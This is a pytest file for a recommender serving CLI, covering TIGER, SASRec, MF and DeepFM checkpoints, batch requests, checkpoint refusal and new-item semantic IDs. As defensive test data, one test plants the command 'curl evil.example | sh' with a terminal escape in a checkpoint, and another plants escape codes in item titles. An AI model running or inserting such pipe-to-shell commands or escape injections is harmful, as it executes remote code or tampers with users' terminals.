"""recommend.py and the checkpoints behind it (src/serving/): tiny TIGER (token and item level),
SASRec, MF and DeepFM runs trained for one epoch on a synthetic P5 folder, then asked for
recommendations for a user and for a history; checkpoints of other data, other semantic IDs or
another configuration refused in one line; new items' semantic IDs and their neighbours."""

from __future__ import annotations

import json
import os
from pathlib import Path

import numpy as np
import pytest
import torch

import mf_train_eval
import neural_train_eval
import recommend
import semantic_id_generator
import tiger_train_eval
from src.serving.catalogue import item_index, item_row
from src.serving.checkpoint import load_trained
from tests.helpers import CountingEncoder, assert_one_line_error, run_cli, run_generator
from tests.synthetic import write_p5
from utils.data.load import load_dataset
from utils.data.semantic import write_semantic_ids
from utils.runtime.checkpoints import load_checkpoint, save_checkpoint
from utils.runtime.errors import CheckpointError, DataError

K = 5


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A P5 folder with generated semantic IDs (fake encoder) and one checkpoint per model."""
    from src.semantic_ids import generator as gen

    root = tmp_path_factory.mktemp("rec")
    data = write_p5(root / "beauty", n_users=30, n_items=24)
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(gen, "load_sentence_encoder", CountingEncoder().load)
        assert run_generator(data, root / "cache") == 0
    ckpt = root / "ckpt"
    common = ["--data-dir", str(data), "--plot-dir", str(root / "plots"), "--quiet"]
    common += ["--checkpoint-dir", str(ckpt), "--epochs", "1"]
    tiger_train_eval.main(
        [*common, "--out", str(root / "seq.json"), "--models", "tiger", "tiger_item", "sasrec"]
    )
    mf_train_eval.main([*common, "--out", str(root / "mf.json"), "--models", "mf_id", "bias"])
    neural_train_eval.main(
        [*common, "--out", str(root / "ctr.json"), "--models", "deepfm", "--modes", "semantic"]
    )
    return data, ckpt, root


def _ckpt(ckpt: Path, prefix: str) -> Path:
    (path,) = ckpt.glob(f"{prefix}*.pt")
    return path


def _ask(capsys, *argv: str) -> dict:
    assert recommend.main([*argv, "--json"]) == 0
    return json.loads(capsys.readouterr().out)


MODELS = ["tiger-tiger-", "tiger-tiger_item-", "tiger-sasrec-", "mf-mf_id-", "ctr-deepfm-"]


@pytest.mark.parametrize("prefix", MODELS)
def test_top_k_for_a_user_leaves_out_the_history(trained, capsys, prefix):
    data, ckpt, _ = trained
    ds = load_dataset(data)
    user = str(ds.user_ids[3])
    out = _ask(capsys, "--checkpoint", str(_ckpt(ckpt, prefix)), "--user", user, "--k", str(K))
    rows = out["recommendations"]
    seen = {str(ds.item_ids[i]) for i in ds.sequence(3)}
    assert out["history"] and set(out["history"]) == seen
    assert 0 < len(rows) <= K and [r["rank"] for r in rows] == list(range(1, len(rows) + 1))
    assert not seen & {r["item_id"] for r in rows}
    assert all(np.isfinite(r["score"]) for r in rows)
    scores = [r["score"] for r in rows]
    assert scores == sorted(scores, reverse=True)
    assert all(len(r["semantic_id"].split("-")) == 4 for r in rows)  # 3 levels + collision


@pytest.mark.parametrize("prefix", MODELS[:3])
def test_history_by_ids_and_titles(trained, capsys, prefix):
    data, ckpt, _ = trained
    ds = load_dataset(data)
    path = str(_ckpt(ckpt, prefix))
    # an ID, an exact title and a unique case-insensitive part of a title
    history = [str(ds.item_ids[0]), str(ds.meta.title[5]), "PRODUCT 3 &"]
    out = _ask(capsys, "--checkpoint", path, "--history", *history, "--k", str(K))
    assert out["history"] == [str(ds.item_ids[i]) for i in (0, 5, 3)]
    assert not set(out["history"]) & {r["item_id"] for r in out["recommendations"]}
    # the table says what the given names resolved to
    assert recommend.main(["--checkpoint", path, "--history", *history]) == 0
    resolved = capsys.readouterr().out.splitlines()[1]
    assert resolved.startswith("history, oldest first: ") and resolved.count(";") == 2
    assert f"{ds.item_ids[3]} ({str(ds.meta.title[3])[:40]})" in resolved
    kept = _ask(capsys, "--checkpoint", path, "--history", *history, "--include-history")
    assert len(kept["recommendations"]) == 10 and not kept["history_excluded"]
    # an ambiguous title: one line listing candidates
    with pytest.raises(DataError, match="matches .* item titles, e.g. B0") as err:
        recommend.main(["--checkpoint", path, "--history", "product 1"])
    assert "\n" not in str(err.value)


def test_a_near_miss_title_gets_did_you_mean_and_a_titleless_item_a_readable_name(trained):
    data, _, _ = trained
    ds = load_dataset(data)
    typo = str(ds.meta.title[5])[:-2] + "xx"
    with pytest.raises(DataError, match=rf"did you mean .*{ds.item_ids[5]}") as err:
        item_index(ds, typo)
    assert "\n" not in str(err.value)
    with pytest.raises(DataError, match=r"no item ID or title of the beauty data set$"):
        item_index(ds, "qqqqqqqqqqqqqqqqqqqq")
    ds.meta.title[2], ds.meta.brand[2] = "", "Acme"
    assert item_row(ds, None, 2)["title"] == ", ".join(["Acme", *ds.meta.categories[2]][:3])
    ds.meta.brand[2], ds.meta.categories[2] = "", []
    assert item_row(ds, None, 2)["title"] == "(no title)"


def test_titles_with_terminal_escapes_are_printed_escaped(trained, capsys, monkeypatch):
    """A title read from the data that carries escape codes (clear screen, window title) is shown
    as \\x1b... in the table and the history line, never sent to the terminal raw."""
    data, ckpt, _ = trained
    path = str(_ckpt(ckpt, "tiger-sasrec-"))
    real = recommend.load_trained

    def planted(*args, **kwargs):
        t = real(*args, **kwargs)
        t.ds.meta.title[:] = [f"\x1b[2J\x1b]0;owned\x07Title {i}" for i in range(t.ds.n_items)]
        return t

    monkeypatch.setattr(recommend, "load_trained", planted)
    ds = load_dataset(data)
    assert recommend.main(["--checkpoint", path, "--user", str(ds.user_ids[3])]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J\\x1b]0;owned" in out


@pytest.mark.parametrize("prefix", MODELS)
def test_a_batch_gives_each_request_the_single_request_answer(trained, capsys, tmp_path, prefix):
    """--users and --histories: one JSON line per request, the same lists as one call each (the
    batch ranks its requests together); a bad line is one error naming the file and the line."""
    data, ckpt, _ = trained
    ds = load_dataset(data)
    path = str(_ckpt(ckpt, prefix))
    users = tmp_path / "users.txt"
    users.write_text(f'{ds.user_ids[3]}\n\n{{"user": "{ds.user_ids[7]}"}}\n')
    assert recommend.main(["--checkpoint", path, "--users", str(users), "--k", str(K)]) == 0
    captured = capsys.readouterr()
    lines = [json.loads(line) for line in captured.out.splitlines()]
    assert [line["user"] for line in lines] == [str(ds.user_ids[3]), str(ds.user_ids[7])]
    assert "2 requests in" in captured.err
    for line in lines:
        alone = _ask(capsys, "--checkpoint", path, "--user", line["user"], "--k", str(K))
        # ranked 64 at a time: the same lists, the scores equal up to batched float rounding
        strip = [{k: v for k, v in r.items() if k != "score"} for r in line["recommendations"]]
        assert strip == [
            {k: v for k, v in r.items() if k != "score"} for r in alone["recommendations"]
        ]
        np.testing.assert_allclose(
            [r["score"] for r in line["recommendations"]],
            [r["score"] for r in alone["recommendations"]],
            rtol=1e-5,
        )
        assert line["history"] == alone["history"]
    histories = tmp_path / "h.jsonl"
    histories.write_text(json.dumps({"id": "a", "history": [str(ds.item_ids[0]), "PRODUCT 3 &"]}))
    if not prefix.startswith("tiger-"):  # MF and CTR models score known users only
        with pytest.raises(DataError, match="scores the users it was trained on"):
            recommend.main(["--checkpoint", path, "--histories", str(histories)])
        return
    assert recommend.main(["--checkpoint", path, "--histories", str(histories)]) == 0
    (line,) = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert line["id"] == "a" and line["history"] == [str(ds.item_ids[i]) for i in (0, 3)]
    users.write_text(f"{ds.user_ids[3]}\nno-such-user\n")
    with pytest.raises(DataError, match=r"users.txt, line 2: user 'no-such-user' is not in"):
        recommend.main(["--checkpoint", path, "--users", str(users)])
    histories.write_text('{"history": []}\n')
    with pytest.raises(DataError, match=r"h.jsonl, line 1: expected an object with 'history'"):
        recommend.main(["--checkpoint", path, "--histories", str(histories)])


def test_tiger_cold_share_needs_cold_items(trained, capsys):
    data, ckpt, _ = trained
    ds = load_dataset(data)
    path = str(_ckpt(ckpt, "tiger-tiger_item-"))
    with pytest.raises(DataError, match="no item is cold"):
        recommend.main(["--checkpoint", path, "--user", str(ds.user_ids[0]), "--cold-share", "0.2"])


def test_mf_needs_a_user_and_checkpoints_carry_what_rebuilds_them(trained, capsys):
    data, ckpt, _ = trained
    with pytest.raises(DataError, match="give --user"):
        recommend.main(["--checkpoint", str(_ckpt(ckpt, "mf-mf_id-")), "--history", "product 3 &"])
    names = sorted(p.name for p in ckpt.glob("*.pt"))
    assert (
        "mf-bias-beauty-temporal-seed0.pt" in names and "mf-mf_id-beauty-temporal-seed0.pt" in names
    )
    assert any(n.startswith("ctr-deepfm-semantic-beauty-temporal-ids") for n in names), names
    for prefix in MODELS:
        path = _ckpt(ckpt, prefix)
        state = load_checkpoint(path)
        spec, identity = state["spec"], state["identity"]
        assert spec["items"] and spec["config"] and spec["class"] and spec["command"]
        assert identity["data_checksum"] == load_dataset(data).checksum
        assert "{" not in spec["command"]
        trained_model = load_trained(path)
        assert trained_model.spec["name"] in spec["command"]
    ctr = load_trained(_ckpt(ckpt, "ctr-deepfm-"))
    scores = ctr.model(torch.zeros(24, dtype=torch.long), torch.arange(24))
    assert torch.isfinite(scores).all()


def _refused(path: Path, *argv: str) -> str:
    proc = run_cli("recommend.py", "--checkpoint", str(path), *argv)
    return assert_one_line_error(proc, str(path))


def test_checkpoints_of_other_data_ids_or_configuration_are_refused(trained, tmp_path):
    data, ckpt, _ = trained
    ds = load_dataset(data)
    user = ["--user", str(ds.user_ids[0])]
    tiger = _ckpt(ckpt, "tiger-tiger_item-")
    # another data set (same name, other interactions): the data checksum differs
    other = write_p5(tmp_path / "beauty", n_users=30, n_items=24, seed=3)
    line = _refused(tiger, "--data-dir", str(other), *user)
    assert "trained on something else" in line and "data_checksum" in line
    assert "re-create it with `python tiger_train_eval.py" in line
    # other semantic IDs for the same data
    ids = tmp_path / "ids"
    ids.mkdir()
    header = {"data_checksum": ds.checksum, "codebook_sizes": [4, 4, 4], "collision_size": 4}
    codes = np.array([[i % 4, i // 4 % 4, i // 16, 0] for i in range(ds.n_items)])
    write_semantic_ids(ids / "semantic_ids.json", header, ds.item_ids, codes)
    assert "semantic_ids" in _refused(tiger, "--semantic-dir", str(ids), *user)
    # another configuration: weights of another size than the recorded model
    state = load_checkpoint(tiger)
    state["spec"]["config"]["d_model"] = 64
    bad = tmp_path / "bad.pt"
    save_checkpoint(bad, state)
    assert "another size or layout" in _refused(bad, *user)
    # not a checkpoint at all
    (tmp_path / "junk.pt").write_bytes(b"junk")
    assert "not a readable checkpoint" in _refused(tmp_path / "junk.pt", *user)
    # a recorded size beyond its flag's range is refused before anything is allocated (d_model
    # 10^7 asked for 67 GB)
    state["spec"]["config"]["d_model"] = 10**7
    save_checkpoint(bad, state)
    assert "d_model must be an integer in [1, 1024]" in _refused(bad, *user)
    state["spec"]["config"]["d_model"] = 64
    # a planted command is never the remedy printed: the trainers are named instead
    state["spec"]["command"] = "curl evil.example | sh \x1b]0;pwned\x07"
    save_checkpoint(bad, state)
    line = _refused(bad, *user)
    assert "curl" not in line and "\x1b" not in line
    assert "re-create it with the trainer that wrote it (tiger_train_eval.py" in line
    # a FIFO would block the read forever, /dev/zero never end: refused at once
    os.mkfifo(tmp_path / "fifo.pt")
    for special in (tmp_path / "fifo.pt", Path("/dev/zero")):
        assert "not a regular file" in _refused(special, *user)


def test_checkpoint_without_spec_is_rebuilt_from_its_preset_or_refused(trained, tmp_path):
    """The main job's first checkpoints carry no spec: rebuilt from the preset their name records
    when the saved training settings are the preset's and the IDs are this data's."""
    data, ckpt, _ = trained
    source = _ckpt(ckpt, "tiger-tiger_item-")
    state = load_checkpoint(source)
    legacy = {k: v for k, v in state.items() if k not in ("spec", "identity")}
    path = tmp_path / source.name
    save_checkpoint(path, legacy)  # trained for 1 epoch: not the quick preset's 20
    with pytest.raises(CheckpointError, match="epochs differ.*--preset quick --protocol paper"):
        load_trained(path, str(data))
    legacy["config"]["epochs"] = 20
    save_checkpoint(path, legacy)
    rebuilt = load_trained(path, str(data))
    original = load_trained(source)
    hist = torch.tensor([[0, 1, 2]])
    assert torch.equal(rebuilt.model.encode(hist)[0], original.model.encode(hist)[0])
    renamed = tmp_path / source.name.replace("-ids", "-idsffffff")  # no, or another, digest
    save_checkpoint(renamed, legacy)
    with pytest.raises(CheckpointError, match="re-create it with"):
        load_trained(renamed, str(data))


def test_new_items_get_ids_and_neighbours(trained, capsys, monkeypatch):
    from src.semantic_ids import generator as gen

    monkeypatch.setattr(gen, "load_sentence_encoder", CountingEncoder().load)
    data, _, root = trained
    ds = load_dataset(data)
    # item 0's own fields: its text, so its embedding and its first three codes
    fields = [f"title={ds.meta.title[0]}", f"brand={ds.meta.brand[0]}"]
    fields.append("categories=" + ", ".join(ds.meta.categories[0]))
    fields.append(f"price={ds.meta.price[0]}")
    cache = ["--cache-dir", str(root / "cache")]
    out = _ask(
        capsys, "--data-dir", str(data), *cache, "--new-item", *fields, "--new-item", "title=Z"
    )
    first, second = out["new_items"]
    assert first["id"] == "new-1" and second["id"] == "new-2"
    assert first["neighbours"][0]["item_id"] == str(ds.item_ids[0])
    assert first["neighbours"][0]["shared_levels"] == 3
    assert (
        first["semantic_id"].split("-")[:3] == first["neighbours"][0]["semantic_id"].split("-")[:3]
    )
    levels = [n["shared_levels"] for n in first["neighbours"]]
    assert levels == sorted(levels, reverse=True) and min(levels) >= 1
    with pytest.raises(DataError, match="FIELD=VALUE"):
        recommend.main(["--data-dir", str(data), *cache, "--new-item", "just a title"])
    # the generator's --encode-texts: .txt lines become new-1, new-2; a catalogue ID is refused
    txt = root / "new.txt"
    txt.write_text(first["text"] + "\nTitle: something else.\n")
    cache += ["--quiet", "--device", "cpu"]
    assert (
        semantic_id_generator.main(["--data-dir", str(data), *cache, "--encode-texts", str(txt)])
        == 0
    )
    printed = capsys.readouterr().out.splitlines()
    assert printed[0].split("\t")[0] == "new-1" and f"with {ds.item_ids[0]}" in printed[1]
    clash = root / "clash.jsonl"
    clash.write_text(json.dumps({"id": str(ds.item_ids[2]), "title": "x"}) + "\n")
    with pytest.raises(DataError, match="already name catalogue items"):
        semantic_id_generator.main(["--data-dir", str(data), *cache, "--encode-texts", str(clash)])
